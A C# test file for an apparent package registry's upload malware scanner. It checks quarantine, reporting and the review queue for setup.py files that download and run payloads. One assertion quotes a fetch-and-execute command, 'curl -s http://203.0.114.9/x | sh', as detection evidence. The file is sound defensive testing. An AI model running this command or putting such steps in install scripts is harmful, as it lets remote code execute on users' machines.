using System.Net;
using Bulwark.Core.Moderation.Reports;
using Bulwark.Core.Packaging;
using Bulwark.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Bulwark.Tests.Moderation;

/// <summary>The malware scan of every upload: malicious files are held (release quarantined, report with findings).</summary>
public abstract class UploadScanTests<TServer>(TServer server) : ModerationTestBase<TServer>(server) where TServer : BulwarkServer
{
    private Task<HttpResponseMessage> SendAsync(string token, UploadForm form) => ScanUploads.SendAsync(Server, token, form);

    [Fact]
    public async Task A_setup_py_that_downloads_and_runs_a_payload_is_held_with_the_finding_in_a_report()
    {
        var (name, token) = await PublishAsync(null, "1.0");
        var spec = new TestDistributions.Spec(name, "2.0");

        var response = await SendAsync(token, ScanUploads.SdistWithSetupPy(spec, ScanUploads.DownloadAndRun));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("held for review", await response.Content.ReadAsStringAsync());
        var release = await Server.WithDbAsync(db => db.Releases.AsNoTracking().SingleAsync(r => r.Project.Name == name && r.Version == "2.0"));
        Assert.Equal(ReleaseLifecycle.Quarantined, release.Lifecycle);
        Assert.DoesNotContain("-2.0", await SimpleHtmlAsync(name));
        Assert.Contains("-1.0", await SimpleHtmlAsync(name));
        var report = await Server.WithDbAsync(db => db.ProjectReports.AsNoTracking().SingleAsync(r => r.ProjectName == name));
        Assert.Equal((ReportKind.Malware, "2.0"), (report.Kind, report.Version));
        Assert.Contains("shell-downloader", report.Summary);
        var finding = await Server.WithDbAsync(db => db.ModerationFindings.AsNoTracking().SingleAsync(f => f.ProjectName == name));
        Assert.Equal(("scan", spec.SdistFilename), (finding.Detector, finding.Filename));
        Assert.Contains("setup.py", finding.Details);
        Assert.Contains("curl", finding.Details);
    }

    [Fact]
    public async Task A_suspicious_upload_files_a_report_and_the_release_stays_up()
    {
        var (name, token) = await PublishAsync(null, "1.0");
        var spec = new TestDistributions.Spec(name, "2.0");

        var response = await SendAsync(token, ScanUploads.SdistWithSetupPy(spec, ScanUploads.InstallBeacon));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.DoesNotContain("held for review", await response.Content.ReadAsStringAsync());
        var release = await Server.WithDbAsync(db => db.Releases.AsNoTracking().SingleAsync(r => r.Project.Name == name && r.Version == "2.0"));
        Assert.Equal(ReleaseLifecycle.Active, release.Lifecycle);
        Assert.Contains(spec.SdistFilename, await SimpleHtmlAsync(name));
        var report = await Server.WithDbAsync(db => db.ProjectReports.AsNoTracking().SingleAsync(r => r.ProjectName == name));
        Assert.Equal((ReportKind.Malware, "2.0"), (report.Kind, report.Version));
        Assert.Contains("suspicious", report.Summary);
        Assert.Contains("The release stays up.", report.Summary);
        var finding = await Server.WithDbAsync(db => db.ModerationFindings.AsNoTracking().SingleAsync(f => f.ProjectName == name));
        Assert.Equal(("scan", spec.SdistFilename), (finding.Detector, finding.Filename));
        Assert.Contains("install-network", finding.Details);
    }

    [Fact]
    public async Task The_review_queue_shows_each_scan_finding_as_rule_file_line_and_evidence()
    {
        var (name, token) = await PublishAsync(null, "1.0");
        var spec = new TestDistributions.Spec(name, "2.0");
        Assert.Equal(HttpStatusCode.OK, (await SendAsync(token, ScanUploads.SdistWithSetupPy(spec, ScanUploads.DownloadAndRun))).StatusCode);

        var (_, admin) = await AdminAsync();
        var page = await admin.GetAsync("/admin/reports");

        var entry = $"section.queue-entry[data-project='{ProjectName.Normalize(name)}']";
        var row = page.Get($"{entry} [data-field=findings] table.finding-lines tr[data-rule='shell-downloader']");
        Assert.EndsWith("setup.py", row.QuerySelector("[data-field=path]")!.TextContent);
        Assert.Equal("3", row.QuerySelector("[data-field=line]")!.TextContent);
        Assert.Contains("curl -s http://203.0.114.9/x | sh", row.QuerySelector("[data-field=evidence]")!.TextContent);
        // Readable, not the stored JSON.
        Assert.DoesNotContain("\"Evidence\"", page.Get($"{entry} [data-field=findings]").TextContent);
    }

    [Fact]
    public async Task A_clean_upload_files_no_report()
    {
        var (name, _) = await PublishAsync(null, "1.0");
        Assert.False(await Server.WithDbAsync(db => db.ProjectReports.AnyAsync(r => r.ProjectName == name)));
        Assert.False(await Server.WithDbAsync(db => db.ModerationFindings.AnyAsync(f => f.ProjectName == name)));
        Assert.Contains("-1.0", await SimpleHtmlAsync(name));
    }
}

public sealed class UploadScanTestsSqlite(SqliteServer s) : UploadScanTests<SqliteServer>(s), IClassFixture<SqliteServer>;

public sealed class UploadScanTestsPostgres(PostgresServer s) : UploadScanTests<PostgresServer>(s), IClassFixture<PostgresServer>;
